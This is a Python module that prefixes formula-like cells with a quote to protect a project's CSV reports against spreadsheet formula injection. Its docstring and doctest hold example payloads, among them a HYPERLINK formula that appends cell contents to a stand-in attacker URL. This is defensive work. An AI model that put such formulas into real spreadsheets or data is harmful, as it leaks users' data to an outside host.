"""CSV that a spreadsheet opens as text, never as formulas (CSV injection, CWE-1236).

Names in Ferry's reports come from the nodes and from people: a server named
`=HYPERLINK("https://evil.example/?"&A1,"open")` would be a live formula in
Excel or LibreOffice. Every CSV Ferry writes goes through `csv_text`.
"""
import csv
import io

# What spreadsheets read as the start of a formula (OWASP's list).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """One cell: None is empty, text that starts like a formula gets a leading quote.

    >>> cell('=HYPERLINK("https://evil.example","x")')
    '\\'=HYPERLINK("https://evil.example","x")'
    >>> cell("-5"), cell(-5), cell("web-1"), cell(None)
    ("'-5", -5, 'web-1', '')
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def csv_text(rows):
    """The rows (lists of values) as CSV text, every cell through `cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return out.getvalue()
